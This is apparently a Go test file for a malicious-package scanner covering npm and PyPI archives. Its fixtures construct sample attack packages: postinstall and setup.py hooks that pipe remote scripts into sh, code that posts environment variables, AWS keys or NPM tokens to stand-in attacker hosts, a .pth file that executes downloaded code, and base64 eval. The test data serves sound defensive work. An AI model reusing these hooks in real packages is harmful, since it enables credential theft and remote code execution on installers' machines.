package content

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
)

func contentTarGz(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for name, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

func contentZip(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(body))
	}
	zw.Close()
	return buf.Bytes()
}

func contentSignalIDs(r *Report) map[string]float64 {
	out := map[string]float64{}
	for _, s := range r.Signals {
		out[s.ID] = max(out[s.ID], s.Value)
	}
	return out
}

// A random-looking 600-character base64 blob (from a fixed byte pattern).
var contentBlob = func() string {
	var b strings.Builder
	x := uint32(2463534242)
	const alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	for i := 0; i < 600; i++ {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		b.WriteByte(alpha[x%64])
	}
	return b.String()
}()

func TestScanPackageArchiveConstructed(t *testing.T) {
	tests := []struct {
		name      string
		file      string
		archive   func(t testing.TB) []byte
		malicious bool
		want      []string // signal IDs that must be present
		eco       string
	}{
		{
			name: "npm curl pipe sh in postinstall", file: "evil-1.0.0.tgz", malicious: true, eco: "npm",
			want: []string{"install-download-exec"},
			archive: func(t testing.TB) []byte {
				return contentTarGz(t, map[string]string{
					"package/package.json": `{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl -s http://203.0.113.7/x.sh | sh"}}`,
					"package/index.js":     `module.exports = 1`,
				})
			},
		},
		{
			name: "npm install script stealing env", file: "stealer-1.0.0.tgz", malicious: true, eco: "npm",
			want: []string{"env-exfiltration", "install-script", "install-network"},
			archive: func(t testing.TB) []byte {
				return contentTarGz(t, map[string]string{
					"package/package.json": `{"name":"stealer","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}`,
					"package/setup.js": `const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({hostname: 'collector.attacker.test', method: 'POST'});
req.write(data); req.end();`,
				})
			},
		},
		{
			name: "npm eval of base64 in library code", file: "obf-2.0.0.tgz", malicious: true, eco: "npm",
			want: []string{"exec-decoded", "high-entropy-blob"},
			archive: func(t testing.TB) []byte {
				return contentTarGz(t, map[string]string{
					"package/package.json": `{"name":"obf","version":"2.0.0"}`,
					"package/index.js":     "const p = '" + contentBlob + "';\neval(Buffer.from(p, 'base64').toString());\n",
				})
			},
		},
		{
			name: "npm native builder", file: "native-1.0.0.tgz", malicious: false, eco: "npm",
			want: []string{"install-script"},
			archive: func(t testing.TB) []byte {
				return contentTarGz(t, map[string]string{
					"package/package.json": `{"name":"native","version":"1.0.0","scripts":{"install":"node-gyp-build"}}`,
					"package/index.js":     `module.exports = require('node-gyp-build')(__dirname)`,
				})
			},
		},
		{
			name: "sdist setup.py downloading and running", file: "evilpy-0.1.tar.gz", malicious: true, eco: "PyPI",
			want: []string{"shell-download-exec", "install-spawn", "install-script"},
			archive: func(t testing.TB) []byte {
				return contentTarGz(t, map[string]string{
					"evilpy-0.1/PKG-INFO": "Metadata-Version: 2.1\nName: evilpy\nVersion: 0.1\n",
					"evilpy-0.1/setup.py": `import os
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        os.system("curl -fsSL http://198.51.100.9/p | sh")
        install.run(self)
setup(name="evilpy", version="0.1", cmdclass={'install': Post})
`,
				})
			},
		},
		{
			name: "sdist exec of b64decode with token theft", file: "tok-0.2.tar.gz", malicious: true, eco: "PyPI",
			want: []string{"exec-decoded", "env-exfiltration"},
			archive: func(t testing.TB) []byte {
				return contentTarGz(t, map[string]string{
					"tok-0.2/PKG-INFO": "Name: tok\nVersion: 0.2\n",
					"tok-0.2/setup.py": `import base64, os, requests
from setuptools import setup
requests.post("https://paste.attacker.test", data=os.environ.get("AWS_SECRET_ACCESS_KEY"))
exec(base64.b64decode("cHJpbnQoMSk="))
setup(name="tok")
`,
				})
			},
		},
		{
			name: "plain sdist", file: "plain-1.0.tar.gz", malicious: false, eco: "PyPI",
			archive: func(t testing.TB) []byte {
				return contentTarGz(t, map[string]string{
					"plain-1.0/PKG-INFO":          "Name: plain\nVersion: 1.0\n",
					"plain-1.0/setup.py":          "from setuptools import setup\nsetup(name='plain')\n",
					"plain-1.0/plain/__init__.py": "import os\nHOME = os.environ.get('HOME')\n",
				})
			},
		},
		{
			name: "wheel with .pth running a download", file: "pthbad-1.0-py3-none-any.whl", malicious: true, eco: "PyPI",
			want: []string{"pth-import", "install-network"},
			archive: func(t testing.TB) []byte {
				return contentZip(t, map[string]string{
					"pthbad-1.0.dist-info/METADATA": "Name: pthbad\nVersion: 1.0\n",
					"pthbad.pth":                    "import urllib.request; exec(urllib.request.urlopen('http://192.0.2.4/s').read())\n",
					"pthbad/__init__.py":            "",
				})
			},
		},
		{
			name: "plain wheel", file: "ok-1.0-py3-none-any.whl", malicious: false, eco: "PyPI",
			archive: func(t testing.TB) []byte {
				return contentZip(t, map[string]string{
					"ok-1.0.dist-info/METADATA": "Name: ok\nVersion: 1.0\n",
					"ok/__init__.py":            "import requests\ndef get(u):\n    return requests.get(u).json()\n",
				})
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rep, err := ScanPackageArchive(context.Background(), tc.file, bytes.NewReader(tc.archive(t)))
			if err != nil {
				t.Fatal(err)
			}
			ids := contentSignalIDs(rep)
			if rep.Malicious != tc.malicious {
				t.Errorf("malicious %v (score %.3f), want %v; signals %+v", rep.Malicious, rep.Score, tc.malicious, rep.Signals)
			}
			if rep.Ecosystem != tc.eco || rep.Name == "" {
				t.Errorf("ecosystem %q name %q", rep.Ecosystem, rep.Name)
			}
			for _, id := range tc.want {
				if _, ok := ids[id]; !ok {
					t.Errorf("missing signal %s; got %v", id, ids)
				}
			}
			for _, s := range rep.Signals {
				if len(s.Evidence) == 0 || s.Source == "" || s.Value <= 0 || s.Value > 1 {
					t.Errorf("signal without evidence or source: %+v", s)
				}
			}
		})
	}
}

// Real npm packages with legitimate install scripts must not be called
// malicious (testdata/signals/npm, see the README there).
func TestScanRealBenignNPM(t *testing.T) {
	for _, tc := range []struct {
		file string
		hook string
	}{
		{"esbuild-0.25.0.tgz", "node install.js"},            // downloads its platform binary from the npm registry
		{"bufferutil-4.0.9.tgz", "node-gyp-build"},           // native-module builder
		{"es5-ext-0.10.64.tgz", "require('./_postinstall')"}, // prints a message in some time zones
	} {
		t.Run(tc.file, func(t *testing.T) {
			f, err := os.Open(filepath.Join("..", "testdata", "signals", "npm", tc.file))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			rep, err := ScanPackageArchive(context.Background(), tc.file, f)
			if err != nil {
				t.Fatal(err)
			}
			if rep.Malicious || rep.Score >= 0.6 {
				t.Errorf("benign %s scored %.3f: %+v", tc.file, rep.Score, rep.Signals)
			}
			if len(rep.InstallHooks) == 0 || !strings.Contains(strings.Join(rep.InstallHooks, " "), tc.hook) {
				t.Errorf("install hooks %v, want one with %q", rep.InstallHooks, tc.hook)
			}
			if _, ok := contentSignalIDs(rep)["install-script"]; !ok {
				t.Errorf("install hook not reported as a signal: %+v", rep.Signals)
			}
			t.Logf("%s: score %.3f signals %v", tc.file, rep.Score, contentSignalIDs(rep))
		})
	}
}

func TestScanNPMDir(t *testing.T) {
	fsys := fstest.MapFS{
		"package.json":      {Data: []byte(`{"name":"d","version":"1.0.0","scripts":{"postinstall":"node scripts/post.js"}}`)},
		"scripts/post.js":   {Data: []byte("require('https').get('https://evil.attacker.test/?t=' + process.env.NPM_TOKEN)\n")},
		"node_modules/x.js": {Data: []byte("eval(atob('YQ=='))")},
	}
	rep, err := ScanNPMDir(context.Background(), fsys, "d")
	if err != nil {
		t.Fatal(err)
	}
	ids := contentSignalIDs(rep)
	if !rep.Malicious || ids["env-exfiltration"] < 0.8 {
		t.Errorf("report %+v", rep)
	}
	if _, ok := ids["exec-decoded"]; ok {
		t.Error("node_modules was scanned")
	}
	if _, err := ScanNPMDir(context.Background(), fstest.MapFS{"a.js": {}}, "empty"); err == nil {
		t.Error("directory without package.json accepted")
	}
}

func TestScanPackageArchiveErrors(t *testing.T) {
	ctx := context.Background()
	if _, err := ScanPackageArchive(ctx, "x.tgz", strings.NewReader("not gzip")); err == nil || !strings.Contains(err.Error(), "x.tgz") {
		t.Errorf("bad gzip: %v", err)
	}
	if _, err := ScanPackageArchive(ctx, "x.whl", strings.NewReader("PK\x03\x04junk")); err == nil {
		t.Error("bad zip accepted")
	}
	other := contentTarGz(t, map[string]string{"a/readme.txt": "hi"})
	if _, err := ScanPackageArchive(ctx, "other.tgz", bytes.NewReader(other)); err == nil {
		t.Error("archive with no manifest accepted")
	}
	badJSON := contentTarGz(t, map[string]string{"package/package.json": "{"})
	if _, err := ScanPackageArchive(ctx, "bad.tgz", bytes.NewReader(badJSON)); err == nil || !strings.Contains(err.Error(), "package.json") {
		t.Errorf("bad package.json: %v", err)
	}
	big := contentTarGz(t, map[string]string{"package/package.json": `{"name":"b"}`, "package/big.js": strings.Repeat("a", maxFileBytes+1)})
	rep, err := ScanPackageArchive(ctx, "big.tgz", bytes.NewReader(big))
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Skipped) != 1 || !strings.Contains(rep.Skipped[0], "big.js") {
		t.Errorf("skipped %v", rep.Skipped)
	}
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := ScanPackageArchive(cctx, "big.tgz", bytes.NewReader(big)); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
}

func FuzzScanPackageArchive(f *testing.F) {
	for _, name := range []string{"esbuild-0.25.0.tgz"} {
		b, err := os.ReadFile(filepath.Join("..", "testdata", "signals", "npm", name))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(name, b)
	}
	f.Add("x.tgz", contentTarGz(f, map[string]string{"package/package.json": `{"name":"x","scripts":{"postinstall":"node a.js"}}`, "package/a.js": "eval(atob('x'))"}))
	f.Add("x.whl", contentZip(f, map[string]string{"x-1.dist-info/METADATA": "Name: x\n", "x.pth": "import os\n"}))
	f.Add("x.tar.gz", contentTarGz(f, map[string]string{"x-1/setup.py": "import os\nos.system('curl x | sh')\n"}))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		rep, err := ScanPackageArchive(context.Background(), name, bytes.NewReader(data))
		if err != nil {
			return
		}
		if rep.Score < 0 || rep.Score > 1 {
			t.Fatalf("score %v", rep.Score)
		}
	})
}

func FuzzContentCode(f *testing.F) {
	f.Add("eval(Buffer.from('aGk=', 'base64').toString())")
	f.Add("const x = JSON.stringify(process.env); fetch('http://a')")
	f.Add("curl http://x | sh")
	f.Fuzz(func(t *testing.T, code string) {
		rep := &Report{Ecosystem: "npm"}
		err := analyse(context.Background(), rep, []file{
			{name: "package.json", data: []byte(`{"name":"f","scripts":{"install":"node i.js"}}`)},
			{name: "i.js", data: []byte(code)},
		})
		if err != nil {
			t.Fatal(err)
		}
		if rep.Score < 0 || rep.Score > 1 {
			t.Fatalf("score %v", rep.Score)
		}
	})
}
